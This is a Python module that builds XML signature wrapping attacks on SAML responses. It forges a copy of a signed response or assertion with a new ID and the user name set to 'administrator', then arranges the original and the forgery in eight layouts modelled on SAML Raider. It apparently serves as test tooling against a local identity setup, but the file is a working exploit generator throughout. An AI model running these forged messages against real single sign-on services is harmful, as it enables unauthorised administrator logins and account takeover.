"""XML signature wrapping: a signed message beside a forged one, in the eight arrangements that SAML Raider knows."""

import copy

from lxml import etree

from local.idp.saml_messages import ASSERTION, NAMES, PROTOCOL, part

VICTIM = "administrator"
_DS = NAMES["ds"]


def _forged(element: etree._Element) -> etree._Element:
    """A copy about somebody else, under another ID; its signature, if there is one, stays in it."""
    forged = copy.deepcopy(element)
    forged.set("ID", "_forged")
    for name_id in forged.iter(f"{{{ASSERTION}}}NameID"):
        name_id.text = VICTIM
    return forged


def _unsigned(element: etree._Element) -> etree._Element:
    plain = copy.deepcopy(element)
    plain.remove(part(plain, "ds:Signature"))
    return plain


def wrapped(kind: int, response: etree._Element) -> etree._Element:
    """Arrangement `kind`, 1 to 8, of a response: 1 and 2 want it signed as a whole, the others its assertion."""
    if kind in (1, 2):
        forged = _forged(response)
        signature = part(forged, "ds:Signature")
        if kind == 1:
            signature.append(_unsigned(response))
        else:
            signature.addprevious(_unsigned(response))
        return forged
    result = copy.deepcopy(response)
    original = part(result, "saml:Assertion")
    forged = _unsigned(_forged(original)) if kind in (3, 4, 7) else _forged(original)
    _arrange(kind, result, original, forged)
    return result


def _arrange(kind: int, result: etree._Element, original: etree._Element, forged: etree._Element) -> None:
    if kind == 3:
        original.addprevious(forged)
    elif kind == 4:
        result.replace(original, forged)
        forged.append(original)
    elif kind == 5:
        result.replace(original, forged)
        result.append(_unsigned(original))
    elif kind == 6:
        result.replace(original, forged)
        part(forged, "ds:Signature").append(_unsigned(original))
    elif kind == 7:
        extensions = etree.Element(f"{{{PROTOCOL}}}Extensions")
        extensions.append(forged)
        part(result, "saml:Issuer").addnext(extensions)
    else:
        result.replace(original, forged)
        holder = etree.SubElement(part(forged, "ds:Signature"), f"{{{_DS}}}Object")
        holder.append(_unsigned(original))
